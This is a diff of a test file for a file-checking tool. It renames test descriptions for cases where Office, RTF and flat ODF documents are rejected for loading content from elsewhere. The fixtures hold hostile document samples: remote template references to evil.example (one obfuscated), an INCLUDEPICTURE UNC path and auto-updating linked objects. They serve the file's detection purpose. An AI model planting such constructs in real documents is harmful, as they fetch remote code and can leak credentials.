@@ -416,7 +416,7 @@ describe('an Office document', () => {
     ['includes a picture in rich text', richField(' INCLUDEPICTURE "\\\\\\\\\\\\\\\\evil\\\\a.png" \\\\d')],
     ['updates an object in rich text after white space', latin1(`${' \n'.repeat(70)}{\\rtf1 {\\object\\objupdate}}`)],
     ['updates an object in rich text', rich('{\\object\\objautlink\\objupdate}')],
-  ])('that %s is rejected', async (_, bytes) => {
+  ])('is rejected if it %s', async (_, bytes) => {
     await refuses('linked')('letter.docx', bytes);
     await refusesWithin(zip([{ name: 'a.docx', content: bytes }]), /loads? or runs? something from elsewhere/);
   });
@@ -440,7 +440,7 @@ describe('an Office document', () => {
     '<w:instrText>INCLUDETEXT ',
     '<w:instrText>a</w:instrText>',
     ' ',
-  ])('that repeats %j is inspected quickly', (text) => {
+  ])('is inspected quickly if it repeats %j', (text) => {
     const xml = Buffer.alloc(1_000_000, text);
     expect(refusalOfXml(Buffer.concat([latin1('<document href="">'), xml]))).toBeUndefined();
   });
@@ -457,16 +457,16 @@ describe('an Office document', () => {
     '\\u6?',
     '\\bin1',
     'INCLUDETEXT file:///',
-  ])('that repeats %j in rich text is inspected quickly', (text) =>
+  ])('is inspected quickly if it repeats %j in rich text', (text) =>
     expect(refusalOfRichText(rich(`{\\fldinst ${text.repeat(1_000_000 / text.length)}`))).toBeUndefined(),
   );
 
   test.each(['{\\*\\template http://evil.example/a.dotm}', '{\\*\\template {}h{\\b ttp}://evil.example/a.dotm}'])(
-    'in rich text that loads a template is rejected: %s',
+    'is rejected if it is rich text that loads a template: %s',
     (text) => refuses('template')('letter.rtf', rich(text)),
   );
 
-  test('in a flat file that loads a template is rejected', () =>
+  test('is rejected if it is a flat file that loads a template', () =>
     refuses('template')('letter.fodt', flat('<meta:template xlink:href="http://evil.example/a.ott"/>')));
 
   test.each<[string, Buffer]>([
@@ -504,7 +504,7 @@ describe('an Office document', () => {
       'is rich text with a template from its own drive',
       rich('{\\*\\template C:\\\\Letters\\\\a.dot}{\\object\\objemb}'),
     ],
-  ])('that %s is accepted', async (_, bytes) =>
+  ])('is accepted if it %s', async (_, bytes) =>
     expect(await checkFile('letter.docx', bytes)).toMatchObject({ preview: false }),
   );
 });
